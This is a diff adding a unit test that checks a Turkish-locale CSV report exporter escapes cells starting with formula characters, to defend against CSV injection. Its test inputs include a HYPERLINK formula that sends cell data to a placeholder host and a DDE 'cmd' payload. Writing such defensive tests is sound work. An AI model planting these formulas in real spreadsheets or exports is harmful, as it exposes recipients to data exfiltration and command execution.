@@ -49,6 +49,30 @@ describe('reportCsv: Turkish Excel dialect', () => {
     expect(parseCsv('\uFEFFa;"b;c"\r\n;\r\n')).toEqual([['a', 'b;c'], ['', '']])
   })
 
+  it('defuses text Excel would run as a formula (OWASP CSV injection); numbers stay numbers', () => {
+    for (const start of ['=', '+', '-', '@', '\t']) expect(csvCell(`${start}1+1`), JSON.stringify(start)).toBe(`'${start}1+1`)
+    expect(csvCell('=HYPERLINK("http://x.example/?"&A1;"tıkla")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1;""tıkla"")"`)
+    expect(csvCell('\rx')).toBe(`"'\rx"`)
+    expect(csvCell('+90 532 000 00 00')).toBe("'+90 532 000 00 00")
+    expect(csvCell('- yarım gün')).toBe("'- yarım gün")
+    // Inside the text a formula character is harmless: only the first one counts.
+    expect(csvCell('1+1=2')).toBe('1+1=2')
+    expect(csvCell('a@b.example')).toBe('a@b.example')
+    // A negative number, as a number or as this dialect writes one, is read as a number by Excel.
+    expect(csvCell(-1.5)).toBe('-1,5')
+    expect(csvCell(-60)).toBe('-60')
+    expect(csvCell('-1,5')).toBe('-1,5')
+    expect(csvCell('-1,5 saat')).toBe("'-1,5 saat")
+
+    const csv = reportCsv(report([row({ employee: '@SUM(A1:A9)', notes: '=1+cmd|" /C calc"!A0', overtime: -1.5 })]))
+    const cells = parseCsv(csv)[1]!
+    expect(cells[0]).toBe("'@SUM(A1:A9)")
+    expect(cells[8]).toBe('-1,5')
+    expect(cells[15]).toBe(`'=1+cmd|" /C calc"!A0`)
+    // The times and dates of a row are not touched: none starts with a formula character.
+    expect(cells.slice(2, 5)).toEqual(['02.01.2026', '08:30', '02:00'])
+  })
+
   it('names regions as people do', () => {
     expect(regionDisplayName('ankara')).toBe('Ankara')
     expect(regionDisplayName('izmir', [{ slug: 'izmir', name: 'İzmir Merkez' }])).toBe('İzmir Merkez')
